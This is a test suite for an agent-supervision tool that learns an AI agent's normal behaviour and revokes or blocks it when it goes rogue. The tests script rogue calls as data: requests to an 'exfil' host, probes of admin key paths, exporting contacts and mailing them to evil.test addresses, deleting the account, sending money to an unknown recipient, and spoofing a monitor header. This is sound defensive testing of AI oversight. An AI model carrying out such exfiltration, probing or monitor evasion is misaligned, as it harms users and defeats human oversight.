"""Behaviour analysis end to end: real Envoy streams its access log to `mandate run
--access-log`; a scripted billing-agent behaves normally through its learning period, then
goes rogue (a fast burst to hosts it never used and to paths its purpose denies).

- `enforce`: it is revoked automatically within a bounded number of rogue calls, with the
  explanation as the reason; every later call, normal ones included, is denied.
- `monitor`: nothing is denied beyond what the rules deny, and the score and its reasons
  are reported (`mandate status`, the decision's audit record).

What the agent does (issue 21): a mail-agent's MCP tool calls, all through the one `POST
/mcp` its rule allows, reach the engine with their tool and arguments (Envoy's dynamic
metadata, from mandate's answer, in the access log entry): a tool it never used raises the
score, named in the explanation; tools, recipients and an order it never used revoke it.
In `enforce`, a call whose own novelty brings the score to `denyAtRisk` (a first-time
money-moving tool to a recipient never paid) is refused before it reaches the upstream
(`novel_call`, the Check path scoring it against the baseline the supervisor publishes).
"""

from __future__ import annotations

import json
import re
import time
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.kubeapi.fixtures import kube_api, kubeconfig  # noqa: F401
from tests.kubeapi.server import KubeAPIServer

from .conftest import DEMO_PROFILES, E2E_PROFILES, Stack, start_stack, stop_stack

LEDGER = "http://ledger.finance.svc.cluster.local"
BEHAVIOUR = """  behavior:
    mode: {mode}
    revokeAtRisk: 0.95
    learningPeriod: 3s
    window: 3s
    minCalls: 5
"""
ROGUE_BOUND = 120  # rogue calls before the revocation: access-log flushes are 0.1 s apart


def _profiles(tmp: Path, mode: str) -> Path:
    d = tmp / "profiles"
    d.mkdir()
    text = (DEMO_PROFILES / "agents.yaml").read_text()
    start = text.index("  behavior:\n")
    end = text.index("---", start)
    text = text[:start] + BEHAVIOUR.format(mode=mode) + text[end:]
    text = text.replace("      rateLimit: {requests: 600, per: 1m}\n", "")
    (d / "agents.yaml").write_text(text)
    (d / "tunnel.yaml").write_text((E2E_PROFILES / "tunnel.yaml").read_text())
    return d


def _stack(tmp: Path, mode: str, transport: str, extra: tuple[str, ...] = ()) -> Stack:
    return start_stack(
        tmp,
        profiles=_profiles(tmp, mode),
        transport=transport,
        extra=["--access-log", "127.0.0.1:0", "--audit-dir", str(tmp / "audit"), *extra],
    )


@pytest.fixture
def enforce_stack(tmp_path: Path, transport: str) -> Iterator[Stack]:
    s = _stack(tmp_path, "enforce", transport)
    yield s
    stop_stack(s)


@pytest.fixture
def monitor_stack(tmp_path: Path, transport: str) -> Iterator[Stack]:
    s = _stack(tmp_path, "monitor", transport)
    yield s
    stop_stack(s)


def _normal(stack: Stack, seconds: float) -> list[int]:
    statuses = []
    deadline = time.monotonic() + seconds
    i = 0
    while time.monotonic() < deadline:
        i += 1
        statuses.append(stack.call("billing-agent", "GET", f"{LEDGER}/v1/invoices/{i % 40}").status)
        time.sleep(0.05)
    return statuses


def _rogue_call(stack: Stack, i: int) -> tuple[int, dict[str, object]]:
    if i % 2:
        url = f"http://exfil-{i}.stripe.com/v1/charges/all"  # allowed by *.stripe.com, never seen
    else:
        url = f"{LEDGER}/v1/ledger/admin/keys/{i}"  # denied by rule: probing
    resp = stack.call("billing-agent", "GET", url)
    return resp.status, (resp.json() if resp.status == 403 else {})


def _risk(stack: Stack) -> dict[str, object]:
    status = json.loads(stack.mandate_cli("status").stdout)
    risks = {r["agent"]: r for r in status["behaviour"]["risks"]}
    return risks.get("billing-agent", {})


def _go_rogue_until_revoked(stack: Stack) -> tuple[int, dict[str, object]]:
    for i in range(1, 400):
        _, body = _rogue_call(stack, i)
        if body.get("error") == "revoked":
            return i, body
        time.sleep(0.01)
    raise AssertionError("never revoked")


def test_enforce_revokes_a_rogue_agent_within_a_bounded_number_of_calls(
    enforce_stack: Stack,
) -> None:
    stack = enforce_stack
    learning = _normal(stack, 4.0)
    assert set(learning) == {200}
    assert set(_normal(stack, 1.0)) == {200}  # past learning: still normal, still allowed
    calm = _risk(stack)
    assert calm and calm["learning"] is False and float(calm["score"]) < 0.3, calm

    revoked_after, body = _go_rogue_until_revoked(stack)
    assert revoked_after <= ROGUE_BOUND, revoked_after
    print(f"revoked after {revoked_after} rogue calls")
    reason = str(body["reason"])
    assert reason.startswith("revoked: behaviour: risk "), reason

    # Every later call is denied, the agent's normal calls included.
    for i in range(20):
        resp = stack.call("billing-agent", "GET", f"{LEDGER}/v1/invoices/{i}")
        assert resp.status == 403 and resp.json()["error"] == "revoked"
    revs = json.loads(stack.mandate_cli("status").stdout)
    assert revs["revocations"]["entries"] >= 1
    # Other agents are unaffected.
    assert stack.call("research-agent", "GET", "http://export.arxiv.org/api/query").status == 200

    # The automatic revocation is in the audit trail with its explanation.
    records = [
        json.loads(line)
        for f in sorted((stack.tmp / "audit").glob("audit-*supervisor*.jsonl"))
        for line in f.read_text().splitlines()
    ]
    auto = [r for r in records if r.get("type") == "revocation_automatic"]
    assert auto and auto[0]["agent"] == "billing-agent" and auto[0]["risk"] >= 0.95


def test_monitor_reports_but_never_denies(monitor_stack: Stack) -> None:
    stack = monitor_stack
    assert set(_normal(stack, 4.0)) == {200}
    codes = []
    for i in range(1, 150):
        status, body = _rogue_call(stack, i)
        codes.append((i % 2, status, body.get("error")))
        time.sleep(0.01)
    # Only the rules deny: the new hosts stay allowed, the admin paths stay denied by rule.
    assert {c for c in codes if c[0] == 1} == {(1, 200, None)}
    assert {c for c in codes if c[0] == 0} == {(0, 403, "denied_by_rule")}
    deadline = time.monotonic() + 5
    risk: dict[str, object] = {}
    while time.monotonic() < deadline:
        risk = _risk(stack)
        if float(risk.get("score", 0)) >= 0.95:  # type: ignore[arg-type]
            break
        time.sleep(0.1)
    assert float(risk["score"]) >= 0.95, risk  # type: ignore[arg-type]
    assert "new destinations" in str(risk["explanation"]) or "denied share" in str(
        risk["explanation"]
    )
    # Still allowed after the score: monitor never denies.
    assert stack.call("billing-agent", "GET", f"{LEDGER}/v1/invoices/1").status == 200
    assert json.loads(stack.mandate_cli("status").stdout)["revocations"]["entries"] == 0


def test_an_automatic_revocation_can_be_published_as_an_agentrevocation(
    tmp_path: Path,
    kubeconfig: Path,  # noqa: F811
    kube_api: KubeAPIServer,  # noqa: F811
) -> None:
    stack = _stack(
        tmp_path, "enforce", "grpc",
        ("--kubernetes", "on", "--kubeconfig", str(kubeconfig), "--publish-behaviour-revocations"),
    )  # fmt: skip
    try:
        assert set(_normal(stack, 4.0)) == {200}
        _go_rogue_until_revoked(stack)
        deadline = time.monotonic() + 10
        objects: list[dict[str, object]] = []
        while time.monotonic() < deadline and not objects:
            objects = kube_api.objects("agentrevocations")
            time.sleep(0.05)
        (obj,) = objects
        spec = obj["spec"]
        assert spec["agent"] == "billing-agent"  # type: ignore[index]
        assert str(spec["reason"]).startswith("behaviour: risk ")  # type: ignore[index]
        labels = obj["metadata"]["labels"]  # type: ignore[index]
        assert labels["mandate.dev/source"] == "behaviour"
        # The operator's restore ends the local behaviour revocation, but the published object
        # still revokes it (here and in every other sidecar) until it is deleted.
        restored = stack.mandate_cli("restore", "billing-agent")
        assert restored.returncode == 1, restored.stdout
        assert stack.call("billing-agent", "GET", f"{LEDGER}/v1/invoices/1").status == 403
    finally:
        stop_stack(stack)


# -- what the agent does: MCP tools (issue 21) -------------------------------------------------

MCP = "http://mcp.tools.svc.cluster.local/mcp"
MAIL_PROFILE = """\
apiVersion: mandate.dev/v1alpha1
kind: AgentProfile
metadata:
  name: mail-agent
spec:
  owner: assistants
  defaultPurpose: mail
  purposes:
    mail:
      allow:
        - hosts: [mcp.tools.svc.cluster.local]
          methods: [POST]
          paths: ["/mcp"]
          mcpTools: [read_inbox, search_contacts, send_email, export_contacts, delete_account,
                     send_money]
  behavior:
    mode: {mode}
    revokeAtRisk: 0.95
    learningPeriod: 3s
    window: 10s
    minCalls: 5
    sensitiveArguments: [to]
"""
KNOWN = ("alice@example.test", "bob@example.test")


def _mail_stack(tmp: Path, mode: str, transport: str) -> Stack:
    d = tmp / "profiles"
    d.mkdir()
    (d / "mail.yaml").write_text(MAIL_PROFILE.format(mode=mode))
    return start_stack(
        tmp, profiles=d, transport=transport, agents=["mail-agent"],
        extra=["--access-log", "127.0.0.1:0", "--audit-dir", str(tmp / "audit")],
    )  # fmt: skip


def _tool(
    stack: Stack,
    tool: str,
    arguments: dict[str, object] | None = None,
    headers: dict[str, str] | None = None,
) -> Any:
    body = json.dumps(
        {"jsonrpc": "2.0", "id": 1, "method": "tools/call",
         "params": {"name": tool, "arguments": arguments or {}}}
    ).encode()  # fmt: skip
    headers = {"Content-Type": "application/json", **(headers or {})}
    return stack.call("mail-agent", "POST", MCP, headers=headers, body=body)


def _learn_mail(stack: Stack, seconds: float = 3.5) -> None:
    """The agent's usual work through its learning period: read, look up, send to someone
    it knows."""
    deadline = time.monotonic() + seconds
    i = 0
    while time.monotonic() < deadline:
        for tool, args in (
            ("read_inbox", {"folder": "inbox"}),
            ("search_contacts", {"query": "team"}),
            ("send_email", {"to": [KNOWN[i % 2]], "body": "weekly report"}),
        ):
            assert _tool(stack, tool, args).status == 200
            time.sleep(0.05)
        i += 1


def _mail_risk(stack: Stack) -> dict[str, object]:
    status = json.loads(stack.mandate_cli("status").stdout)
    return {r["agent"]: r for r in status["behaviour"]["risks"]}.get("mail-agent", {})


def test_a_first_time_tool_raises_the_score_and_is_named(tmp_path: Path, transport: str) -> None:
    stack = _mail_stack(tmp_path, "monitor", transport)
    try:
        _learn_mail(stack)
        deadline = time.monotonic() + 5
        while _mail_risk(stack).get("learning", True) and time.monotonic() < deadline:
            time.sleep(0.1)
        calm = _mail_risk(stack)
        assert float(calm["score"]) < 0.1, calm  # type: ignore[arg-type]
        # Once, through the same POST /mcp as every call: only the tool is new. The facts
        # are mandate's answer's, never the agent's: its own x-mandate-call changes nothing.
        spoof = {"x-mandate-call": "t=read_inbox(folder:s)"}
        assert _tool(stack, "export_contacts", {"format": "csv"}, spoof).status == 200
        risk = _risk_when(stack, lambda score: score > 0)
        assert 0.56 <= float(risk["score"]) < 0.8, risk  # type: ignore[arg-type]
        assert "new tools 0.56 (1 call: export_contacts(format:s))" in str(risk["explanation"])
        assert risk["contributions"]["new_tools"] == 0.56  # type: ignore[index]
        # One new tool is never enough to deny (monitor or not): the next call goes through.
        assert _tool(stack, "read_inbox", {"folder": "inbox"}).status == 200
    finally:
        stop_stack(stack)


def test_tool_novelty_revokes_the_agent_in_enforce(tmp_path: Path, transport: str) -> None:
    stack = _mail_stack(tmp_path, "enforce", transport)
    try:
        _learn_mail(stack)
        time.sleep(0.5)
        # Rogue: tools it never used, mail to addresses it never wrote to, in a new order.
        rogue = [
            ("export_contacts", {"format": "csv"}),
            ("read_inbox", {"folder": "inbox"}),
            ("send_email", {"to": ["drop-{i}@evil.test"], "body": "contacts attached"}),
            ("delete_account", {"confirm": True}),
        ]
        codes: list[str] = []
        body: dict[str, object] = {}
        for i in range(60):
            tool, args = rogue[i % len(rogue)]
            args = json.loads(json.dumps(args).replace("{i}", str(i)))
            resp = _tool(stack, tool, args)
            body = resp.json() if resp.status == 403 else {}
            codes.append(str(body.get("error", resp.status)))
            if body.get("error") == "revoked":
                break
            time.sleep(0.1)
        assert codes[-1] == "revoked", codes
        assert len(codes) <= 30, codes
        assert codes[0] == "200"  # the first new tool alone denies nothing
        reason = str(body["reason"])
        assert reason.startswith("revoked: behaviour: risk "), reason
        assert "new tools" in reason and "export_contacts(format:s)" in reason, reason
        # A revoked agent's usual calls are refused too.
        assert _tool(stack, "read_inbox", {"folder": "inbox"}).status == 403
        records = [
            json.loads(line)
            for f in sorted((stack.tmp / "audit").glob("audit-*supervisor*.jsonl"))
            for line in f.read_text().splitlines()
        ]
        auto = [r for r in records if r.get("type") == "revocation_automatic"]
        assert auto and auto[0]["agent"] == "mail-agent" and auto[0]["risk"] >= 0.95
        assert auto[0]["contributions"]["new_tools"] == 0.7
    finally:
        stop_stack(stack)


def _wait_learned(stack: Stack) -> dict[str, object]:
    deadline = time.monotonic() + 5
    while _mail_risk(stack).get("learning", True) and time.monotonic() < deadline:
        time.sleep(0.1)
    time.sleep(0.3)  # a scoring tick after the end of learning publishes the baseline too
    return _mail_risk(stack)


def _risk_when(stack: Stack, ok: Callable[[float], bool]) -> dict[str, object]:
    """mail-agent's published risk once its score satisfies ``ok`` (or the last seen after
    5 s: the caller's assertion says what was wrong)."""
    deadline = time.monotonic() + 5
    risk: dict[str, object] = {}
    while time.monotonic() < deadline:
        risk = _mail_risk(stack)
        if ok(float(risk.get("score", 0))):  # type: ignore[arg-type]
            break
        time.sleep(0.1)
    return risk


def _audit_records(stack: Stack, match: Callable[[dict[str, Any]], bool]) -> list[dict[str, Any]]:
    """The audit records in `tmp/audit` that ``match`` (waiting up to 10 s for one: the
    trail is written off the Check path)."""
    deadline = time.monotonic() + 10
    records: list[dict[str, Any]] = []
    while time.monotonic() < deadline and not records:
        records = [
            r
            for f in sorted((stack.tmp / "audit").glob("audit-*.jsonl"))
            for line in f.read_text().splitlines()
            if match(r := json.loads(line))
        ]
        time.sleep(0.1)
    return records


def test_a_first_time_money_move_is_refused_before_it_reaches_the_upstream(
    tmp_path: Path, transport: str
) -> None:
    stack = _mail_stack(tmp_path, "enforce", transport)
    try:
        _learn_mail(stack)
        calm = _wait_learned(stack)
        assert calm.get("learning") is False and float(calm["score"]) < 0.1, calm  # type: ignore[arg-type]
        arrived = len(stack.upstream.received)
        # Never called while learning, to a recipient never written to: 0.56 + 0.56 -> 0.81,
        # at denyAtRisk (0.8) with the call counted: the call itself is refused.
        resp = _tool(stack, "send_money", {"to": "mallory@evil.test", "amount": 1000})
        assert resp.status == 403, resp.body[:300]
        body = resp.json()
        assert body["error"] == "novel_call", body
        reason = str(body["reason"])
        assert re.match(r"novel call: behaviour risk 0\.8\d with this call >= 0\.80: ", reason)
        assert "new tools +0.56 (send_money(amount:i,to:s))" in reason, reason
        assert "new values +0.56 (to)" in reason, reason
        time.sleep(0.3)
        assert len(stack.upstream.received) == arrived  # never reached the upstream
        # The refused call is still reported (access log) and scored: the agent's next calls
        # are refused on the published score, and the audit record names the code.
        risk = _risk_when(stack, lambda score: score >= 0.8)
        assert "send_money(amount:i,to:s)" in str(risk.get("explanation")), risk
        nxt = _tool(stack, "read_inbox", {"folder": "inbox"})
        assert nxt.status == 403 and nxt.json()["error"] == "risk"
        records = _audit_records(stack, lambda r: r.get("decision_id") == body["decision"])
        assert records and records[0]["code"] == "novel_call", records
        assert 0.8 <= records[0]["risk"] < 0.9 and records[0]["mcp_tools"] == ["send_money"]
    finally:
        stop_stack(stack)


def test_monitor_lets_a_first_time_money_move_through_and_records_that_enforce_would_not(
    tmp_path: Path, transport: str
) -> None:
    """Before enforcing, an operator sees what enforce would stop: the call goes through,
    its audit record says `would_deny` (code and reason) and the metric counts it."""
    stack = _mail_stack(tmp_path, "monitor", transport)
    try:
        _learn_mail(stack)
        _wait_learned(stack)
        arrived = len(stack.upstream.received)
        resp = _tool(stack, "send_money", {"to": "mallory@evil.test", "amount": 1000})
        assert resp.status == 200, resp.body[:300]
        decision = resp.headers.get("x-mandate-decision") or ""
        time.sleep(0.3)
        assert len(stack.upstream.received) == arrived + 1
        records = _audit_records(stack, lambda r: r.get("mcp_tools") == ["send_money"])
        assert records and records[0]["decision"] == "allow", records
        would = records[0]["would_deny"]
        assert would["code"] == "novel_call", would
        assert "new tools +0.56 (send_money(amount:i,to:s))" in would["reason"], would
        assert not decision or records[0]["decision_id"] == decision
        opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
        url = f"http://127.0.0.1:{stack.mandate.admin_port}/metrics"
        with opener.open(url, timeout=5) as got:
            metrics = got.read().decode()
        assert re.search(
            r'mandate_behaviour_would_deny_total\{agent="mail-agent",code="novel_call"\} 1\.0',
            metrics,
        ), metrics[-2000:]
        # A call with nothing new says nothing.
        assert _tool(stack, "read_inbox", {"folder": "inbox"}).status == 200
    finally:
        stop_stack(stack)


def test_one_novelty_alone_is_not_refused_on_the_check_path(tmp_path: Path, transport: str) -> None:
    stack = _mail_stack(tmp_path, "enforce", transport)
    try:
        _learn_mail(stack)
        _wait_learned(stack)
        # A first-time tool with nothing sensitive (0.56 < 0.8) goes through, as does mail
        # to a known recipient right after it (a known tool; the transition is the new
        # tool's, not counted twice).
        assert _tool(stack, "export_contacts", {"format": "csv"}).status == 200
        assert _tool(stack, "send_email", {"to": [KNOWN[0]], "body": "hi"}).status == 200
    finally:
        stop_stack(stack)
